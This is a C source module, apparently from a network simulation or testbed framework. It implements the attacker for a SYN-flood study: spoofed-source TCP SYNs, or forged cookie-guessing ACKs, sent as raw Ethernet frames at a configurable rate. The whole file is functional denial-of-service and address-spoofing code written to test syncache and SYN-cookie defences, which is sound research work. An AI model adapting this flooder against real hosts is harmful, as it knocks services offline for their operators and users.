/*
 * syn_flood.c -- a SYN flood: count TCP SYNs from spoofed sources to
 * dst:port, paced by an arrival process (arrival.h), sent as raw
 * Ethernet frames through one interface to a next hop's MAC address.
 *
 * This is the attacker of the SYN-flood study (issue: TCP with an
 * optional syncache): the target sees SYNs from `sources` different
 * addresses from src upwards (the default, 198.18.0.0, is RFC 2544's
 * benchmarking range), each with a random source port and initial
 * sequence number, and an MSS option as a real stack's SYN carries.
 * Nobody answers the target's SYN-ACKs (the spoofed addresses are not
 * there), so every SYN leaves half-open state behind, or a cookie.
 *
 * The frames bypass the flooding host's own IP layer, as a raw flooder
 * does: no route, no ARP, no PCB.  `gw` is the MAC of the next hop (the
 * router's NIC, or the target's on the same link).  Both checksums are
 * correct, so the target's TCP input reaches its listen socket.
 *
 * Each SYN costs two draws from the program's own stream
 * ("syn_flood<N>"): the source (address and port) and the ISN.  With
 * flags "ack" it sends ACKs instead (a third draw: the acknowledgment
 * number), the forged last segments of handshakes that a target's SYN
 * cookies must refuse.  A frame
 * the interface refuses (its ring is full) is lost, counted in refused:
 * sent + refused = count.
 *
 * Counters "syn_flood<N>.<name>": sent, refused.
 */
#include <sys/kern.h>
#include <sys/evcnt.h>
#include <sys/kmem.h>

#include <kern/endian.h>
#include <kern/mbuf.h>

#include <string.h>

#include <net/if.h>
#include <net/if_ether.h>
#include <netinet/in.h>
#include <netinet/in_cksum.h>
#include <netinet/ip.h>

#include "apps.h"
#include "arrival.h"

enum { SF_DEV, SF_GW, SF_DST, SF_PORT, SF_SRC, SF_SOURCES, SF_RATE,
    SF_COUNT, SF_START, SF_PATTERN, SF_ON, SF_OFF, SF_FLAGS };
enum { SF_SYN, SF_ACK };

static const char *const sf_flags[] = { "syn", "ack", NULL };

#define SF_COUNT_MAX    100000000
#define SF_TCP_HLEN     24              /* header and the MSS option */
#define SF_IP_LEN       (20 + SF_TCP_HLEN)
#define SF_MSS          1460            /* what the SYNs offer */
#define SF_TTL          64
#define SF_WINDOW       65535

static const struct app_param syn_flood_params[] = {
	[SF_DEV] = { "dev", APP_IFACE, 0, 0, 0, NULL,
	    "the interface it floods through", true },
	[SF_GW] = { "gw", APP_ETHER, 0, 0, 0, NULL,
	    "the next hop's MAC: \"HOST.NIC\" of the router (or of the target "
	    "on the same link)", true },
	[SF_DST] = { "dst", APP_INADDR, 0, 0, 0xffffffff, NULL,
	    "the target's address", true },
	[SF_PORT] = { "port", APP_INT, 80, 1, 65535, NULL,
	    "the target's (listening) port", false },
	[SF_SRC] = { "src", APP_INADDR, 0xc6120000, 0, 0xffffffff, NULL,
	    "the first spoofed source address (default 198.18.0.0)", false },
	[SF_SOURCES] = { "sources", APP_INT, 65536, 1, 1 << 24, NULL,
	    "spoofed source addresses, from src upwards, drawn uniformly",
	    false },
	[SF_RATE] = { "rate", APP_RATE_PPS, 10000, 1, 100000000, NULL,
	    "SYNs a second (onoff: during a burst)", false },
	[SF_COUNT] = { "count", APP_INT, 10000, 1, SF_COUNT_MAX, NULL,
	    "SYNs to send", false },
	[SF_START] = { "start", APP_DURATION, 0, 0, 3600000000000, NULL,
	    "wait this long after the program starts before the first SYN",
	    false },
	[SF_PATTERN] = { "pattern", APP_ENUM, APP_PATTERN_CONSTANT, 0, 0,
	    app_pattern_names, APP_ARRIVAL_PATTERN_DOC, false },
	[SF_ON] = { "on", APP_DURATION, 1000000, 1, 3600000000000, NULL,
	    APP_ARRIVAL_ON_DOC, false },
	[SF_OFF] = { "off", APP_DURATION, 1000000, 0, 3600000000000, NULL,
	    APP_ARRIVAL_OFF_DOC, false },
	[SF_FLAGS] = { "flags", APP_ENUM, SF_SYN, 0, 0, sf_flags,
	    "syn: SYNs; ack: ACKs with a random acknowledgment number, the "
	    "forged last segments of handshakes (a cookie guesser's)", false },
};

/* Legend: c = constant after start; the rest is the flooder's LWP's. */
struct syn_flood {
	struct ifnet *ifp;              /* c */
	uint8_t gw[ETHER_ADDR_LEN];     /* c */
	uint32_t dst, src, sources;     /* c: host byte order */
	uint16_t port;                  /* c */
	bool ack;                       /* c: ACKs, not SYNs */
	uint16_t ip_id;
	cprng_stream_t rng;
	struct app_arrival arr;
	char group[24];                 /* c */
	struct evcnt ev_sent, ev_refused;
};

/*
 * The next SYN as a frame: IPv4 and TCP headers built first (in4_cksum
 * wants the IPv4 header at the start of the chain), then the Ethernet
 * header prepended.  NULL if out of mbufs.
 */
static struct mbuf *
sf_frame(struct syn_flood *sf)
{
	uint64_t r = cprng_stream64(&sf->rng);
	uint32_t saddr = sf->src + (uint32_t)(((r >> 32) * sf->sources) >> 32);
	uint16_t sport = (uint16_t)(1024 + (uint32_t)(r & 0xffff) % 64512);
	uint32_t iss = (uint32_t)cprng_stream64(&sf->rng);
	struct mbuf *m = m_gethdr(M_DONTWAIT, MT_DATA);
	struct ether_header *eh;
	uint8_t *ip, *th;
	uint16_t sum;

	if (m == NULL)
		return NULL;
	m_align(m, SF_IP_LEN);
	m->m_len = m->m_pkthdr.len = SF_IP_LEN;
	ip = mtod(m, uint8_t *);
	memset(ip, 0, SF_IP_LEN);
	ip[0] = IP_VHL(4, 20);
	be16enc(ip + 2, SF_IP_LEN);
	be16enc(ip + 4, sf->ip_id++);
	ip[8] = SF_TTL;
	ip[9] = IPPROTO_TCP;
	be32enc(ip + 12, saddr);
	be32enc(ip + 16, sf->dst);
	sum = (uint16_t)in_cksum(m, 20);
	memcpy(ip + 10, &sum, sizeof(sum));

	th = ip + 20;
	be16enc(th, sport);
	be16enc(th + 2, sf->port);
	be32enc(th + 4, iss);                  /* ack 0 (a SYN) */
	if (sf->ack)                            /* a third draw: the ack */
		be32enc(th + 8, (uint32_t)cprng_stream64(&sf->rng));
	th[12] = (SF_TCP_HLEN / 4) << 4;        /* data offset */
	th[13] = sf->ack ? 0x10 : 0x02;         /* ACK or SYN */
	be16enc(th + 14, SF_WINDOW);
	th[20] = 2;                             /* MSS option: kind, length */
	th[21] = 4;
	be16enc(th + 22, SF_MSS);
	sum = (uint16_t)in4_cksum(m, IPPROTO_TCP, 20, SF_TCP_HLEN);
	memcpy(th + 16, &sum, sizeof(sum));

	M_PREPEND(m, ETHER_HDR_LEN, M_DONTWAIT);
	if (m == NULL)
		return NULL;
	eh = mtod(m, struct ether_header *);
	memcpy(eh->ether_dhost, sf->gw, ETHER_ADDR_LEN);
	memcpy(eh->ether_shost, sf->ifp->if_lladdr, ETHER_ADDR_LEN);
	eh->ether_type = htons(ETHERTYPE_IP);
	return m;
}

static void
sf_counters(struct syn_flood *sf, bool attach)
{
	struct evcnt *ev[] = { &sf->ev_sent, &sf->ev_refused };
	static const char *const names[] = { "sent", "refused" };

	CTASSERT(__arraycount(ev) == __arraycount(names));
	app_counters(sf->group, ev, names, __arraycount(ev), attach);
}

static void
syn_flood_main(void *argp)
{
	const struct app_args *args = argp;
	uint64_t count = (uint64_t)args->v[SF_COUNT];
	struct syn_flood *sf;

	sf = kmem_zalloc(sizeof(*sf), KM_SLEEP);
	/* The loader checked that the host has this interface. */
	sf->ifp = app_ifnet((u_int)args->v[SF_DEV]);
	KASSERTMSG(sf->ifp != NULL, "syn_flood: no interface %lld",
	    (long long)args->v[SF_DEV]);
	app_ether_addr(args->v[SF_GW], sf->gw);
	sf->dst = (uint32_t)args->v[SF_DST];
	sf->port = (uint16_t)args->v[SF_PORT];
	sf->src = (uint32_t)args->v[SF_SRC];
	sf->sources = (uint32_t)args->v[SF_SOURCES];
	sf->ack = args->v[SF_FLAGS] == SF_ACK;
	app_group(sf->group, sizeof(sf->group), "syn_flood", args->instance);
	cprng_stream_init(&sf->rng, sf->group);
	/* Counters outlive the LWP: the run samples them at its end. */
	sf_counters(sf, true);
	app_arrival_init(&sf->arr, (enum app_pattern)args->v[SF_PATTERN],
	    getnanouptime() + (uint64_t)args->v[SF_START],
	    (uint64_t)args->v[SF_RATE], (uint64_t)args->v[SF_ON],
	    (uint64_t)args->v[SF_OFF], NULL, 0, sf->group);
	for (uint64_t k = 0; k < count; k++) {
		struct mbuf *m;

		(void)kpause_until("synflood", false,
		    app_arrival_next(&sf->arr), NULL);
		m = sf_frame(sf);
		if (m != NULL && (*sf->ifp->if_transmit)(sf->ifp, m) == 0)
			sf->ev_sent.ev_count++;
		else
			sf->ev_refused.ev_count++;
	}
	kern_printf("%s: %s: %llu %s sent to port %u, %llu refused\n",
	    sf->group, sf->ifp->if_xname,
	    (unsigned long long)sf->ev_sent.ev_count,
	    sf->ack ? "ACKs" : "SYNs", (u_int)sf->port,
	    (unsigned long long)sf->ev_refused.ev_count);
}

const struct app_desc app_syn_flood_desc = {
	.name = "syn_flood",
	.doc = "sends TCP SYNs from spoofed sources to dst:port as raw "
	    "frames to a next hop, paced by an arrival process (the attacker "
	    "of a SYN-flood study); counters syn_flood.sent and .refused",
	.params = syn_flood_params,
	.nparams = __arraycount(syn_flood_params),
	.main = syn_flood_main,
};
